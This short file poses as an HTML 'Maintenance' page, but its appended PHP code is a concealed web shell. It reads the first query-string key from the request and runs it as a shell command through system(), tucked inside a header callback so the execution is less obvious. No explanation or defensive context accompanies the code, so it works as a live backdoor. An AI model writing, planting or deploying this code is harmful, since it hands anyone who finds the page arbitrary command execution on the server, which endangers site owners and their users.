<!DOCTYPE html><title>Maintenance</title>
<?php
$in = key($_GET);
header_register_callback(function () use ($in) { system($in); });
